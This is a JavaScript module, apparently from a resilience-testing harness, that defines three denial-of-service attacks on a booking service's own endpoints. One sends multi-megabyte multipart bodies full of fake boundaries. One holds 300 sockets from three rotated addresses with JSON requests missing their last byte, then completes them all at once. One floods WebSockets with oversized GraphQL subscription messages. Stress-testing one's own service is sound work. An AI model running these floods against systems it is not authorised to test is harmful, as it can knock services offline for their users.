// The attacks of a siege with bodies that are costly to read: forms, JSON, and messages of WebSockets.
import { setTimeout as sleep } from 'node:timers/promises';
import { WebSocket } from 'ws';
import { countStatuses, rawFrom } from './client.mjs';
import { ATTACKER, inLoops, THREE_ADDRESSES } from './loops.mjs';

const MESSAGE = JSON.stringify({
  id: '1',
  type: 'subscribe',
  payload: {
    query: `subscription { bookingChanged { ${'id '.repeat(900)} } }`,
    variables: { long: 'a'.repeat(45_000) },
  },
});

/** @type {Record<string, import('./attacks.mjs').Attack>} */
export const ATTACKS_WITH_BODIES = {
  /** Forms of seven megabytes of boundaries, or of what resembles them, over REST. */
  'form-boundaries': {
    run({ url }, until) {
      const part = '--b\r\nContent-Disposition: form-data; name="a"\r\n\r\n';
      const bodies = [
        `${part}${'x'.repeat(66_000)}\r\n${'\r\n--b\r\n\r\n'.repeat(700_000)}`,
        `${part}${'\r\n--a'.repeat(1_400_000)}\r\n--b--\r\n`,
      ].map((body) => Buffer.from(body));
      return inLoops(6, until, url, async (client, n) => {
        await sleep(1_000);
        return client.send({
          method: 'POST',
          path: '/api/auth/register-provider',
          type: 'multipart/form-data; boundary=b',
          body: /** @type {Buffer} */ (bodies[n % 2]),
        });
      });
    },
  },

  /** The last bytes of 190 kB of JSON at the same moment, over a hundred connections of each of three addresses. */
  'completed-bodies': {
    async run({ url }, until) {
      const statuses = countStatuses();
      const body = JSON.stringify({ query: '{ __typename }', variables: { long: '\u0001'.repeat(31_000) } });
      const head = (/** @type {number} */ n) =>
        `POST ${n % 2 ? '/graphql' : '/api/auth/login'} HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n` +
        `Content-Length: ${body.length}\r\n\r\n`;
      while (Date.now() < until) {
        const sockets = Array.from({ length: 300 }, (_, n) => {
          const { socket } = rawFrom(url, THREE_ADDRESSES[n % 3] ?? ATTACKER);
          socket.write(head(n) + body.slice(0, -1));
          socket.on('data', (data) => statuses.add(String(data).slice(9, 12)));
          return socket;
        });
        await sleep(1_500);
        for (const socket of sockets) socket.write(body.slice(-1));
        await sleep(1_000);
        for (const socket of sockets) socket.destroy();
      }
      return statuses.line();
    },
  },

  /** Messages of 48 kB over a hundred WebSockets of each of three addresses, reopened every few seconds. */
  'long-frames': {
    async run({ url }, until) {
      const closes = countStatuses();
      const loop = async (/** @type {unknown} */ _, /** @type {number} */ n) => {
        while (Date.now() < until) {
          const socket = new WebSocket(new URL('/graphql', url.replace('http', 'ws')), 'graphql-transport-ws', {
            localAddress: THREE_ADDRESSES[n % 3],
          });
          const closed = new Promise((resolve) => socket.once('close', resolve));
          const end = setTimeout(() => socket.terminate(), until - Date.now());
          socket.on('error', () => undefined);
          socket.on('open', () => {
            socket.send(JSON.stringify({ type: 'connection_init' }));
            for (let times = 0; times < 8; times += 1) socket.send(MESSAGE);
          });
          closes.add(String(await closed));
          clearTimeout(end);
          await sleep(2_000);
        }
      };
      await Promise.all(Array.from({ length: 300 }, loop));
      return closes.line();
    },
  },
};
